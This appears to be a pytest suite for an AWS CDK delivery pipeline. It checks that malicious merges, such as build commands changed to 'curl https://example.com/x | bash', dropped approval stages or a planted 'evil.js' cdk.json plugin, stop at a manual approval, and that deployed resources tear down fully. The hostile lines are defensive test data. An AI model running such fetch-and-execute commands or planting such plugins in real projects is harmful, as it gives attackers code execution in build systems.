"""The tools' account in the emulator: bootstrapped, deployed, changed, queried, destroyed."""

import hashlib
import io
import json
import shutil
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from tests.infra.delivery import CONNECTION, DELIVERY, tools_of, write_stages
from tests.infra.variants import new_app
from verification.deploy.accounts.organization import running as organized
from verification.deploy.assembly import written
from verification.deploy.process import Emulator, running
from verification.deploy.releases.builds import Builds, Repository

ACCOUNT = "777788889999"
NAME = "sashiko-delivery"


@pytest.fixture(scope="module")
def tools(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Emulator]:
    """The emulator of the tools' account."""
    with running(ACCOUNT, tmp_path_factory.mktemp("home")) as instance:
        yield instance


def _synthesize(folder: Path, tools: Any) -> Path:
    from sashiko.account.templates import read_templates
    from sashiko_cdk.bootstrap.policies import write_policies
    from sashiko_packs.delivery.constructs.stack import Delivery

    (folder / "config").mkdir(parents=True)
    write_stages(folder / "config")
    app = new_app()
    Delivery(app, tools)
    written(app, folder)
    templates = [read_templates(tools.settings, folder=folder / "cdk.out")]
    write_policies(tools.settings, templates, folder / "cdk.out/bootstrap", tools=tools)
    return folder


@pytest.fixture
def builds(tools: Emulator, tmp_path: Path) -> Iterator[Builds]:
    """Builds that get the credentials of their own roles, and what those let them assume."""
    with organized([tools]) as organization:
        none = Repository(tmp_path)
        yield Builds(organization, tools, none, tmp_path / "builds", connection=CONNECTION)


def _packed(folder: Path) -> tuple[bytes, dict[str, str]]:
    """Packs what the synth packs: here the one assembly, and the settings."""
    content, packed = io.BytesIO(), io.BytesIO()
    with tarfile.open(fileobj=content, mode="w") as archive:
        archive.add(folder / "cdk.out", "cdk.out/delivery")
        for file in (folder / "cdk.json", *folder.glob("*.js")):
            archive.add(file, file.name)
        archive.add(folder / "config", "config")
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("assembly.tar", content.getvalue())
    digest = hashlib.sha256(content.getvalue()).hexdigest()
    return packed.getvalue(), {"ASSEMBLY": digest}


def _bootstrap(emulator: Emulator, folder: Path, templates: Path) -> None:
    """Prepares the account as `make bootstrap ENV=delivery` does."""
    from sashiko.account.templates import read_templates
    from sashiko_cdk.bootstrap.policies import add_policies, bootstrap_options

    app, tools = new_app(), tools_of()
    stacks = [read_templates(tools.settings, folder=templates)]
    add_policies(app, tools.settings, stacks, tools=tools)
    folder.mkdir()
    written(app, folder)
    emulator.cdk("deploy", "--require-approval=never", folder=folder)
    emulator.cdk("bootstrap", *bootstrap_options(tools.settings), folder=folder)


@pytest.fixture(scope="module")
def folder(tools: Emulator, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The project whose pipeline is deployed."""
    place = tmp_path_factory.mktemp("project")
    folder = _synthesize(place / "first", tools_of())
    _bootstrap(tools, place / "bootstrap", folder / "cdk.out")
    tools.cdk("deploy", "--all", "--require-approval=never", folder=folder)
    return folder


def _change(folder: Path, kind: str, name: str, change: Callable[[Any], None]) -> None:
    """Changes a resource of the synthesized pipeline, as a merge would."""
    file = folder / "cdk.out/Delivery.template.json"
    document = json.loads(file.read_text())
    (properties,) = (
        item["Properties"]
        for item in document["Resources"].values()
        if item["Type"] == kind and item["Properties"].get("Name") == name
    )
    change(properties)
    file.write_text(json.dumps(document))


def _replace_commands(project: Any) -> None:
    commands = ["curl https://example.com/x | bash", "export BROADENS=no"]
    spec = {"version": 0.2, "phases": {"build": {"commands": commands}}}
    project["Source"]["BuildSpec"] = json.dumps(spec)
    project["Environment"]["PrivilegedMode"] = True


def _drop_approvals(pipeline: Any) -> None:
    pipeline["Stages"] = [s for s in pipeline["Stages"] if not s["Name"].endswith("-approval")]


def _override_commands(pipeline: Any) -> None:
    for stage in pipeline["Stages"]:
        if stage["Name"] == "dev-deploy":
            stage["Actions"][0]["Configuration"]["BuildspecOverride"] = "commands: [curl | bash]"


# What a merge may change of the pipeline, and what the approver reads of it.
MERGES: dict[str, tuple[str, str, Callable[[Any], None], tuple[str, ...]]] = {
    "builds of prod": ("AWS::CodeBuild::Project", f"{NAME}-prod-deploy", _replace_commands,
                       ("curl https://example.com/x | bash", "PrivilegedMode")),
    "difference of prod": ("AWS::CodeBuild::Project", f"{NAME}-prod-difference", _replace_commands,
                           ("curl https://example.com/x | bash", "PrivilegedMode")),
    "its own difference": ("AWS::CodeBuild::Project", f"{NAME}-delivery-difference",
                           _replace_commands, ("export BROADENS=no",)),
    "its own approval": ("AWS::CodePipeline::Pipeline", NAME, _drop_approvals,
                         ("delivery-approval", "Manual")),
    "commands of an action": ("AWS::CodePipeline::Pipeline", NAME, _override_commands,
                              ("curl | bash",)),
}  # fmt: skip


@pytest.mark.parametrize("name", MERGES)
def test_a_merge_that_changes_the_delivery_ends_at_a_person(
    tools: Emulator, builds: Builds, folder: Path, tmp_path: Path, name: str
) -> None:
    kind, resource_name, change, words = MERGES[name]
    merged = tmp_path / "merged"
    shutil.copytree(folder, merged)
    _change(merged, kind, resource_name, change)
    pipeline = tools.client("codepipeline").get_pipeline(name=NAME)["pipeline"]
    source, variables = _packed(merged)
    difference = builds.run(f"{NAME}-delivery-difference", variables, source=source)
    assert difference.status == "SUCCEEDED", difference.output
    with zipfile.ZipFile(io.BytesIO(difference.artifact)) as files:
        text = files.read("diff.txt").decode()
    for word in words:
        assert word in text and word in difference.output
    # Whatever the build said: the next stage is a person's, and nothing skips it.
    assert difference.exports == {}
    names = [stage["name"] for stage in pipeline["stages"]]
    after = pipeline["stages"][names.index("delivery-difference") + 1]
    assert [item["actionTypeId"]["provider"] for item in after["actions"]] == ["Manual"]
    assert "beforeEntry" not in after
    assert names[names.index("delivery-difference") + 2] == "delivery-deploy"


def test_nothing_of_a_commit_runs_before_a_person_has_approved(
    tools: Emulator, builds: Builds, folder: Path, tmp_path: Path
) -> None:
    """By the stock command line, which takes plugins from the `cdk.json` where it is started."""
    merged = tmp_path / "merged"
    shutil.copytree(folder, merged)
    ran = tmp_path / "ran"
    plugin, cdk_json = merged / "evil.js", merged / "cdk.json"
    writes = f"require('fs').writeFileSync('{ran}', '')"
    plugin.write_text(f"{writes}; module.exports = {{version: '1', init() {{}}}}")
    cdk_json.write_text(json.dumps({"plugin": [str(plugin)]}))
    tools.cdk("diff", folder=merged)
    assert ran.exists()  # the plugin works
    ran.unlink()
    source, variables = _packed(merged)
    difference = builds.run(f"{NAME}-delivery-difference", variables, source=source)
    assert difference.status == "SUCCEEDED", difference.output
    assert not ran.exists()


@pytest.mark.parametrize("role", [f"{NAME}-pipeline", f"{NAME}-approvals"])
def test_no_role_starts_a_deploy_with_other_commands(
    tools: Emulator, folder: Path, role: str
) -> None:
    assert folder
    arn = f"arn:aws:iam::{ACCOUNT}:role/{role}"
    part = "models" if role.endswith("-approvals") else "prod-deploy"
    project = f"arn:aws:codebuild:us-east-1:{ACCOUNT}:project/{NAME}-{part}"
    with organized([tools]) as organization:
        assert organization.may(arn, "codebuild:StartBuild", project)
        for member in ("source.buildspec", "environment.image", "environment.privilegedmode"):
            override = {f"codebuild:{member}": "true"}
            assert not organization.may(arn, "codebuild:StartBuild", project, **override)


@pytest.mark.slow
def test_the_pipeline_is_changed_and_destroyed_without_a_rest(
    tools: Emulator, builds: Builds, folder: Path, tmp_path: Path
) -> None:
    pipelines = tools.client("codepipeline")
    pipeline = pipelines.get_pipeline(name=NAME)["pipeline"]
    assert pipeline["pipelineType"] == "V2"
    assert [stage["name"] for stage in pipeline["stages"]][-1] == "prod-deploy"
    assert "no differences" in tools.cdk("diff", folder=folder)

    # Without the stage `staging`: fewer roles, and stages that differ.
    stages = tuple(item for item in tools_of().stages if item.environment != "staging")
    changed = _synthesize(tmp_path / "second", replace(tools_of(), stages=stages))
    short = DELIVERY.replace("[dev, staging, prod]", "[dev, prod]")
    (changed / "config/delivery.yaml").write_text(short)
    starts = _starts(tools)
    source, variables = _packed(changed)
    deploy = builds.run(f"{NAME}-delivery-deploy", variables, source=source)
    assert deploy.status == "SUCCEEDED", deploy.output
    names = [stage["name"] for stage in pipelines.get_pipeline(name=NAME)["pipeline"]["stages"]]
    assert "staging-deploy" not in names and "prod-approval" in names
    # An update starts an execution again, with the new stages.
    assert _starts(tools) == starts + 1

    artifacts = f"{NAME}-artifacts-{ACCOUNT}-us-east-1"
    tools.client("s3").put_object(Bucket=artifacts, Key=f"{NAME}/Synth/x", Body=b"x")
    tools.sashiko("env", "destroy-data", "--env", "delivery", "--yes", folder=changed)
    tools.cdk("destroy", "--all", "--force", folder=changed)
    assert pipelines.list_pipelines()["pipelines"] == []
    buckets = tools.client("s3").list_buckets()["Buckets"]
    assert [item["Name"] for item in buckets if item["Name"].startswith(NAME)] == []
    roles = tools.client("iam").list_roles()["Roles"]
    assert [role["RoleName"] for role in roles if role["RoleName"].startswith(NAME)] == []


def _starts(tools: Emulator) -> int:
    executions = tools.client("codepipeline").list_pipeline_executions(pipelineName=NAME)
    return len(executions["pipelineExecutionSummaries"])
